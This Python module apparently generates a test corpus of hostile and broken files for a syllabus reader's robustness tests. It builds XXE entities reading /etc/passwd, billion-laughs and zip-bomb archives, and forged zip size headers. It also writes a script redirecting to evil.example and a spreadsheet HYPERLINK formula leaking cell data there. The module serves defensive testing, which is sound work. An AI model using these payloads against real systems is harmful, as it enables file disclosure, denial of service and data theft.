"""Generate the hostile and broken input corpus used by ``test_hostile_inputs.py``.

Nothing here is downloaded or committed: every file is built on the fly in a
temporary folder, deterministically (fixed seeds), in well under a second each.
Each builder takes the destination folder and returns the path it wrote.

Run it by hand to look at the files::

    python tests/hostile.py /tmp/hostile      # writes every case into /tmp/hostile

Cases that must be *refused* (with a clear reason) and cases that must be *read
correctly* both live here; the expectations live in the test module.
"""

from __future__ import annotations

import io
import random
import re
import struct
import sys
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

GOOD_CODE = "LTA 999"
GOOD_OUTCOME = "Explain how library staff keep a batch of syllabi readable."
PASSWD_MARKERS = ("root:x:0:0", "/bin/bash", "/usr/sbin/nologin", "daemon:")


def syllabus_md(code: str, title: str, outcomes: list[str], *, topic: str = "") -> str:
    """Return a small Markdown syllabus in the style of the sample program."""
    lines = [
        "Test College - Library Technical Assistant Program",
        "",
        f"# {code} {title}",
        "",
        "- **Credits:** 3",
        "- **Term:** Fall 2026",
        "",
        "## Course Description",
        "",
        f"An introduction to {title.lower()} for library support staff.",
        "",
        "## Course Outcomes",
        "",
        "Upon successful completion of this course, students will be able to:",
        "",
    ]
    lines += [f"{i}. {text}" for i, text in enumerate(outcomes, 1)]
    if topic:
        lines += ["", "## Course Schedule", "", f"- Week 1: {topic}"]
    return "\n".join(lines) + "\n"


def good_syllabus(folder: Path) -> Path:
    """The well-formed syllabus put in every batch beside a hostile file."""
    path = folder / "LTA999_good.md"
    text = syllabus_md(
        GOOD_CODE,
        "Reliable Library Operations",
        [GOOD_OUTCOME, "Describe the circulation cycle of library materials."],
    )
    path.write_text(text, encoding="utf-8")
    return path


# --- helpers -----------------------------------------------------------------------
def _docx_bytes(paragraphs: list[str]) -> bytes:
    import docx

    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    buf = io.BytesIO()
    document.save(buf)
    return buf.getvalue()


def _docx_syllabus(code: str, title: str, outcomes: list[str]) -> bytes:
    paragraphs = [
        f"{code} {title}",
        "Course Description",
        f"An introduction to {title.lower()}.",
        "Course Outcomes",
        "Upon successful completion of this course, students will be able to:",
        *outcomes,
    ]
    return _docx_bytes(paragraphs)


def _rewrite_zip(
    data: bytes,
    replace: dict[str, bytes],
    add: dict[str, bytes] | None = None,
) -> bytes:
    """Return the zip ``data`` with members replaced or added (deflated)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            body = replace.get(info.filename, src.read(info.filename))
            dst.writestr(info.filename, body)
        for name, body in (add or {}).items():
            dst.writestr(name, body)
    return out.getvalue()


def _with_doctype(xml: str, doctype: str) -> str:
    """Insert ``doctype`` after the XML declaration (or at the start)."""
    decl = re.match(r"<\?xml[^>]*\?>", xml)
    at = decl.end() if decl else 0
    return xml[:at] + doctype + xml[at:]


def _xlsx_bytes(build: Callable) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    build(wb)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _outcome_rows(code: str, title: str, texts: list[str]) -> list[list[str]]:
    return [[code, title, "outcome", t] for t in texts]


def _pdf_bytes(lines: list[str] | None) -> bytes:
    """A one-page PDF with ``lines`` as a text layer, or only a drawing if None."""
    from fpdf import FPDF

    pdf = FPDF()
    pdf.set_creation_date(datetime(2026, 1, 1, tzinfo=UTC))
    pdf.add_page()
    if lines is None:  # a "scanned" page: an image of the page, no text layer
        from PIL import Image, ImageDraw

        image = Image.new("L", (170, 220), 255)
        draw = ImageDraw.Draw(image)
        for i in range(12):
            draw.rectangle((10, 10 + i * 17, 160, 18 + i * 17), fill=60)
        pdf.image(image, x=20, y=20, w=170)
    else:
        pdf.set_font("Helvetica", size=11)
        for line in lines:
            pdf.cell(0, 8, line, new_x="LMARGIN", new_y="NEXT")
    return bytes(pdf.output())


# --- refused cases -------------------------------------------------------------------
def truncated_docx(folder: Path) -> Path:
    data = _docx_syllabus("LTA 301", "Truncated Word", ["Catalog books."])
    path = folder / "LTA301_truncated.docx"
    path.write_bytes(data[: len(data) // 2])
    return path


def truncated_xlsx(folder: Path) -> Path:
    def build(wb):
        ws = wb.active
        ws.title = "Outcomes"
        ws.append(["course_code", "course_title", "kind", "text"])
        for row in _outcome_rows("LTA 302", "Truncated Excel", ["Shelve books."]):
            ws.append(row)

    data = _xlsx_bytes(build)
    path = folder / "LTA302_truncated.xlsx"
    path.write_bytes(data[: len(data) // 2])
    return path


def text_renamed_docx(folder: Path) -> Path:
    """A web page or text file saved with a .docx name (a common accident)."""
    path = folder / "LTA303_really_html.docx"
    path.write_text("<html><body>LTA 303 syllabus</body></html>\n", encoding="utf-8")
    return path


def xxe_docx(folder: Path) -> Path:
    """document.xml declares an external entity that points at /etc/passwd."""
    data = _docx_syllabus(
        "LTA 304",
        "Entity Test",
        ["Describe the reference interview. XXE_HERE", "Apply the DDC."],
    )
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = z.read("word/document.xml").decode("utf-8")
    doctype = (
        '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
        '<!ENTITY local "INTERNAL-ENTITY-TEXT">]>'
    )
    xml = _with_doctype(xml, doctype)
    xml = xml.replace("XXE_HERE", "&xxe; &local;")
    path = folder / "LTA304_xxe.docx"
    path.write_bytes(_rewrite_zip(data, {"word/document.xml": xml.encode("utf-8")}))
    return path


def billion_laughs_docx(folder: Path) -> Path:
    """Nested internal entities that would expand to gigabytes."""
    data = _docx_syllabus("LTA 305", "Laughs", ["LAUGH_HERE"])
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = z.read("word/document.xml").decode("utf-8")
    ents = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    doctype = "<!DOCTYPE w:document [" + "".join(ents) + "]>"
    xml = _with_doctype(xml, doctype)
    xml = xml.replace("LAUGH_HERE", "&lol9;")
    path = folder / "LTA305_billion_laughs.docx"
    path.write_bytes(_rewrite_zip(data, {"word/document.xml": xml.encode("utf-8")}))
    return path


def xxe_xlsx(folder: Path) -> Path:
    """An outcome sheet whose worksheet XML declares an external entity."""

    def build(wb):
        ws = wb.active
        ws.title = "Outcomes"
        ws.append(["course_code", "course_title", "kind", "text"])
        ws.append(["LTA 306", "Entity Sheet", "outcome", "Shelve XXE_HERE books."])

    data = _xlsx_bytes(build)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    doctype = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    xml = _with_doctype(xml, doctype)
    xml = xml.replace("XXE_HERE", "&xxe;")
    path = folder / "LTA306_xxe.xlsx"
    path.write_bytes(
        _rewrite_zip(data, {"xl/worksheets/sheet1.xml": xml.encode("utf-8")})
    )
    return path


def zip_bomb_docx(folder: Path) -> Path:
    """A real DOCX plus a 60 MB member of zeros that compresses to ~60 KB."""
    data = _docx_syllabus("LTA 307", "Bomb", ["Catalog books."])
    bomb = _rewrite_zip(data, {}, add={"word/media/image1.bin": bytes(60_000_000)})
    path = folder / "LTA307_zip_bomb.docx"
    path.write_bytes(bomb)
    return path


def zip_bomb_xlsx(folder: Path) -> Path:
    def build(wb):
        ws = wb.active
        ws.title = "Outcomes"
        ws.append(["course_code", "course_title", "kind", "text"])
        ws.append(["LTA 308", "Bomb Sheet", "outcome", "Shelve books."])

    bomb = _rewrite_zip(
        _xlsx_bytes(build), {}, add={"xl/media/x.bin": bytes(60_000_000)}
    )
    path = folder / "LTA308_zip_bomb.xlsx"
    path.write_bytes(bomb)
    return path


def understated_bomb_docx(folder: Path) -> Path:
    """document.xml is 30 MB of XML but the zip headers claim it is 2 KB.

    The size checks believe the headers, so the reader itself must stop at the
    declared size (Python's zipfile does, then fails the CRC check).
    """
    data = _docx_syllabus("LTA 309", "Liar", ["PAD_HERE"])
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = z.read("word/document.xml").decode("utf-8")
    xml = xml.replace("PAD_HERE", "lie " * 7_500_000)
    data = _rewrite_zip(data, {"word/document.xml": xml.encode("utf-8")})
    path = folder / "LTA309_understated_bomb.docx"
    path.write_bytes(_understate(data, "word/document.xml", 2048))
    return path


def _understate(data: bytes, name: str, size: int) -> bytes:
    """Patch the uncompressed size of member ``name`` in both zip headers."""
    buf = bytearray(data)
    encoded = name.encode("utf-8")
    # local file header: signature PK\3\4, size at offset 22, name at 30
    pos = 0
    while (pos := buf.find(b"PK\x03\x04", pos)) != -1:
        n = struct.unpack_from("<H", buf, pos + 26)[0]
        if bytes(buf[pos + 30 : pos + 30 + n]) == encoded:
            struct.pack_into("<I", buf, pos + 22, size)
        pos += 4
    # central directory: signature PK\1\2, size at offset 24, name at 46
    pos = 0
    while (pos := buf.find(b"PK\x01\x02", pos)) != -1:
        n = struct.unpack_from("<H", buf, pos + 28)[0]
        if bytes(buf[pos + 46 : pos + 46 + n]) == encoded:
            struct.pack_into("<I", buf, pos + 24, size)
        pos += 4
    return bytes(buf)


def encrypted_pdf(folder: Path) -> Path:
    from pypdf import PdfReader, PdfWriter

    plain = _pdf_bytes(["LTA 310 Protected Course", "Course Outcomes", "Catalog."])
    writer = PdfWriter()
    for page in PdfReader(io.BytesIO(plain)).pages:
        writer.add_page(page)
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    buf = io.BytesIO()
    writer.write(buf)
    path = folder / "LTA310_password.pdf"
    path.write_bytes(buf.getvalue())
    return path


def scanned_pdf(folder: Path) -> Path:
    path = folder / "LTA311_scanned.pdf"
    path.write_bytes(_pdf_bytes(None))
    return path


def truncated_pdf(folder: Path) -> Path:
    data = _pdf_bytes(["LTA 312 Cut Course", "Course Outcomes", "Catalog."])
    path = folder / "LTA312_truncated.pdf"
    path.write_bytes(data[: len(data) // 3])
    return path


def empty_md(folder: Path) -> Path:
    path = folder / "LTA313_empty.md"
    path.write_bytes(b"")
    return path


def empty_docx(folder: Path) -> Path:
    path = folder / "LTA314_empty.docx"
    path.write_bytes(b"")
    return path


def blank_txt(folder: Path) -> Path:
    """Only spaces and newlines: not 0 bytes, but nothing to read."""
    path = folder / "LTA315_blank.txt"
    path.write_bytes(b"   \n\n\t\n   \n" * 20)
    return path


def random_bytes_md(folder: Path) -> Path:
    path = folder / "LTA316_random.md"
    path.write_bytes(random.Random(316).randbytes(8192))
    return path


def png_renamed_md(folder: Path) -> Path:
    """A PNG image saved with a .md name."""
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    raw = b"".join(b"\x00" + bytes([x % 256 for x in range(64 * 3)]) for _ in range(64))
    png = (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 64, 64, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw, 9))
        + chunk(b"IEND", b"")
    )
    path = folder / "LTA317_picture.md"
    path.write_bytes(png)
    return path


def huge_txt(folder: Path) -> Path:
    """A 20 MB plain-text file (an export gone wrong)."""
    line = "Describe the circulation of library materials to patrons again. " * 3
    block = (line.strip() + "\n").encode("ascii")
    path = folder / "LTA318_huge.txt"
    header = b"LTA 318 Huge Course\n\nCourse Outcomes\n\n"
    with open(path, "wb") as fh:
        fh.write(header)
        fh.write(block * (20_000_000 // len(block) + 1))
    return path


def long_line_md(folder: Path) -> Path:
    """1 MB of text on one line (no newline) after a normal header."""
    text = syllabus_md("LTA 319", "Long Line", ["Describe cataloging workflows."])
    words = "catalog shelve circulate patron " * (1_000_000 // 32 + 1)
    path = folder / "LTA319_long_line.md"
    path.write_text(text + "\n" + words[:1_000_000] + "\n", encoding="utf-8")
    return path


def csv_missing_columns(folder: Path) -> Path:
    path = folder / "LTA320_missing_columns.csv"
    path.write_text("Course,Credits\nLTA 320,3\nLTA 321,4\n", encoding="utf-8")
    return path


def xlsx_missing_columns(folder: Path) -> Path:
    def build(wb):
        ws = wb.active
        ws.title = "Outcomes"
        ws.append(["Course", "Credits", "Instructor"])
        ws.append(["LTA 322", 3, "Pat"])

    path = folder / "LTA322_missing_columns.xlsx"
    path.write_bytes(_xlsx_bytes(build))
    return path


# --- cases read correctly ------------------------------------------------------
HTML_SCRIPT = "stealCookies"


def html_script_entities(folder: Path) -> Path:
    html = f"""<!DOCTYPE html>
<html><head><title>LTA 330 Cataloging &amp; Classification</title>
<script>function {HTML_SCRIPT}() {{ location = "http://evil.example/"; }}</script>
<style>body {{ color: red; }} .secretcss {{ display: none; }}</style>
</head><body onload="{HTML_SCRIPT}()">
<h1>LTA 330 Cataloging &amp; Classification</h1>
<h2>Course Description</h2>
<p>Descriptive cataloging for library support staff.</p>
<h2>Course Outcomes</h2>
<p>Upon successful completion of this course, students will be able to:</p>
<ol>
<li>Apply RDA &amp; MARC 21 to describe r&eacute;sum&eacute; collections.</li>
<li>Explain the library&#8217;s classification policy.</li>
<li>Assign Dewey numbers<script>{HTML_SCRIPT}()</script> to print books.</li>
</ol>
</body></html>
"""
    path = folder / "LTA330_script.html"
    path.write_text(html, encoding="utf-8")
    return path


CP1252_OUTCOME = "Describe the café’s “quiet study” rules and the €5 fine policy."


def cp1252_md(folder: Path) -> Path:
    text = syllabus_md("LTA 331", "Windows Text", [CP1252_OUTCOME])
    path = folder / "LTA331_cp1252.md"
    path.write_bytes(text.replace("\n", "\r\n").encode("cp1252"))
    return path


UTF16_OUTCOME = "Catalogue naïve résumé collections for Zoë’s branch."


def utf16_md(folder: Path) -> Path:
    text = syllabus_md("LTA 332", "Sixteen Bits", [UTF16_OUTCOME])
    path = folder / "LTA332_utf16.md"
    path.write_bytes(text.encode("utf-16"))  # with BOM, native (little) endian
    return path


def utf8_bom_md(folder: Path) -> Path:
    text = syllabus_md("LTA 333", "Byte Order Mark", ["Shelve DVDs by call number."])
    path = folder / "LTA333_utf8_bom.md"
    path.write_bytes(text.encode("utf-8-sig"))
    return path


def crlf_md(folder: Path) -> Path:
    text = syllabus_md(
        "LTA 334",
        "Carriage Returns",
        ["Process interlibrary loan requests\nfor patrons of the library."],
    )
    path = folder / "LTA334_crlf.md"
    path.write_bytes(text.replace("\n", "\r\n").encode("utf-8"))
    return path


NON_LATIN = {
    "greek": ("LTA 335", "Ελληνική Βιβλιοθηκονομία", "Περιγράφουν την ταξινόμηση."),
    "arabic": ("LTA 336", "مكتبات عربية", "يشرح الطالب نظام تصنيف ديوي العشري."),
    "cjk": ("LTA 337", "図書館サービス", "学生は図書の分類と目録作成を説明できる。"),
}


def _non_latin(folder: Path, script: str) -> Path:
    code, title, outcome = NON_LATIN[script]
    path = folder / f"{code.replace(' ', '')}_{script}.md"
    path.write_text(syllabus_md(code, title, [outcome]), encoding="utf-8")
    return path


def greek_md(folder: Path) -> Path:
    return _non_latin(folder, "greek")


def arabic_md(folder: Path) -> Path:
    return _non_latin(folder, "arabic")


def cjk_md(folder: Path) -> Path:
    return _non_latin(folder, "cjk")


ACCENTED_OUTCOME = "Aplicar las reglas de catalogación descriptiva a libros en español."


def accented_name_md(folder: Path) -> Path:
    path = folder / "Catalogación básica.md"
    path.write_text(
        syllabus_md("LTA 338", "Catalogación básica", [ACCENTED_OUTCOME]),
        encoding="utf-8",
    )
    return path


FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the syllabus")',
    "=1+1",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
)


def csv_formulas(folder: Path) -> Path:
    import csv

    path = folder / "LTA339_formulas.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["course_code", "course_title", "kind", "text"])
        writer.writerow(["LTA 339", "Formula Course", "outcome", "Shelve books daily."])
        for f in FORMULAS:
            writer.writerow(["LTA 339", "Formula Course", "outcome", f])
    return path


XLSX_CACHED = ("Click for the syllabus", "Weed the collection twice a year.")


def xlsx_formulas(folder: Path) -> Path:
    """Formula cells as Excel saves them: the formula plus its cached value."""
    formulas = (FORMULAS[0], '="Weed the collection "&"twice a year."')

    def build(wb):
        ws = wb.active
        ws.title = "Outcomes"
        ws.append(["course_code", "course_title", "kind", "text"])
        ws.append(["LTA 340", "Formula Sheet", "outcome", "Shelve books daily."])
        for f in formulas:
            ws.append(["LTA 340", "Formula Sheet", "outcome", f])

    data = _xlsx_bytes(build)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    for cached in XLSX_CACHED:  # openpyxl leaves <v></v> empty; Excel fills it
        xml = re.sub(
            r'<c r="(D\d+)"><f>(.*?)</f><v></v></c>',
            rf'<c r="\1" t="str"><f>\2</f><v>{cached}</v></c>',
            xml,
            count=1,
        )
    path = folder / "LTA340_formulas.xlsx"
    sheet = {"xl/worksheets/sheet1.xml": xml.encode("utf-8")}
    path.write_bytes(_rewrite_zip(data, sheet))
    return path


MERGED_OUTCOMES = ("Check in returned items.", "Renew loans for patrons.")


def xlsx_merged_cells(folder: Path) -> Path:
    """Course code and title typed once in cells merged down over their rows."""

    def build(wb):
        ws = wb.active
        ws.title = "Outcomes"
        ws.append(["course_code", "course_title", "kind", "text"])
        for text in MERGED_OUTCOMES:
            ws.append(["LTA 341", "Merged Course", "outcome", text])
        ws.merge_cells("A2:A3")
        ws.merge_cells("B2:B3")

    path = folder / "LTA341_merged.xlsx"
    path.write_bytes(_xlsx_bytes(build))
    return path


HIDDEN_TEXT = "HIDDEN-SHEET lookup list entry"


def xlsx_hidden_sheet(folder: Path) -> Path:
    """A visible outcome sheet plus a hidden sheet holding a lookup list."""

    def build(wb):
        hidden = wb.active
        hidden.title = "Lists"
        hidden.append(["course_code", "course_title", "kind", "text"])
        hidden.append(["LTA 342", "Hidden", "outcome", HIDDEN_TEXT])
        hidden.sheet_state = "hidden"
        ws = wb.create_sheet("Outcomes")
        ws.append(["course_code", "course_title", "kind", "text"])
        ws.append(["LTA 342", "Visible Course", "outcome", "Weed the collection."])
        wb.active = 1

    path = folder / "LTA342_hidden_sheet.xlsx"
    path.write_bytes(_xlsx_bytes(build))
    return path


def xlsx_extra_columns(folder: Path) -> Path:
    def build(wb):
        ws = wb.active
        ws.title = "Outcomes"
        ws.append(["Course", "Notes", "Course Title", "Type", "Learning Outcome", "x"])
        ws.append(["LTA 343", "n/a", "Extra Course", "outcome", "Mend books.", 1])

    path = folder / "LTA343_extra_columns.xlsx"
    path.write_bytes(_xlsx_bytes(build))
    return path


CASES: dict[str, Callable[[Path], Path]] = {
    f.__name__: f
    for f in (
        truncated_docx,
        truncated_xlsx,
        text_renamed_docx,
        xxe_docx,
        billion_laughs_docx,
        xxe_xlsx,
        zip_bomb_docx,
        zip_bomb_xlsx,
        understated_bomb_docx,
        encrypted_pdf,
        scanned_pdf,
        truncated_pdf,
        empty_md,
        empty_docx,
        blank_txt,
        random_bytes_md,
        png_renamed_md,
        huge_txt,
        long_line_md,
        csv_missing_columns,
        xlsx_missing_columns,
        html_script_entities,
        cp1252_md,
        utf16_md,
        utf8_bom_md,
        crlf_md,
        greek_md,
        arabic_md,
        cjk_md,
        accented_name_md,
        csv_formulas,
        xlsx_formulas,
        xlsx_merged_cells,
        xlsx_hidden_sheet,
        xlsx_extra_columns,
    )
}


def build_all(folder: Path) -> dict[str, Path]:
    """Write every case (and the good syllabus) into ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    good_syllabus(folder)
    return {name: build(folder) for name, build in CASES.items()}


if __name__ == "__main__":  # pragma: no cover - manual use
    for name, path in build_all(Path(sys.argv[1])).items():
        sys.stdout.write(f"{name:24} {path.name} ({path.stat().st_size:,} bytes)\n")
